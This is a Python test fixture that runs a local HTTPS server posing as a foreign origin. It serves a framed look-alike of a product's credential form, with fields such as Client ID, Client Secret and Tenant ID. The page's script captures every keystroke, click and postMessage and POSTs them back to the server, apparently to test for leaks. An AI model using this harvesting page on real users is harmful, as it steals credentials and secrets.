"""Somebody else's page in a frame of the product's: it asks for the same things by the same labels."""

import ssl
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import TracebackType
from typing import Self

from wizard.sandbox.certificates import server_context

_LABELS = (
    "Alias", "Name", "Client ID", "Client Secret", "Tenant ID", "Tenant Domain or ID (GUID)",
    "Office365 Domain Name", "Email", "Permission Level",
)  # fmt: skip
_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>Advice</title><link rel="icon" href="data:,"></head>
<body>{fields}<button type="button">Save</button><script>
for (const kind of ["input", "change", "click", "focusin"]) addEventListener(kind, event =>
  fetch("/heard", {{method: "POST", body: event.type + " " + (event.target.value || "")}}), true);
addEventListener("message", event => fetch("/told", {{method: "POST", body: JSON.stringify(event.data)}}));
</script></body></html>"""


class ForeignOrigin:
    """A server of another origin that keeps every request. Inside its `with` block `url` can be framed."""

    def __init__(self, folder: Path) -> None:
        self.ca_file = folder / "foreign-ca.pem"
        self.requests: list[str] = []
        self._context: ssl.SSLContext = server_context(["127.0.0.1"], self.ca_file)

    @property
    def url(self) -> str:
        return f"https://127.0.0.1:{self._server.server_address[1]}"

    @property
    def told(self) -> list[str]:
        """Every request but those for the frame itself."""
        return [one for one in self.requests if not one.startswith("GET / ")]

    def __enter__(self) -> Self:
        requests = self.requests

        class Handler(BaseHTTPRequestHandler):
            """Keeps line, headers and body."""

            def _answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                requests.append(f"{self.requestline}\n{self.headers}\n{body.decode(errors='replace')}")
                fields = "".join(f'<p><label>{label} <input type="text"></label></p>' for label in _LABELS)
                page = _PAGE.format(fields=fields).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            do_GET = do_POST = _answer  # noqa: N815 (http.server calls them so)

            def log_message(self, *_arguments: object) -> None:
                """Nothing on the screen."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.socket = self._context.wrap_socket(self._server.socket, server_side=True)
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()
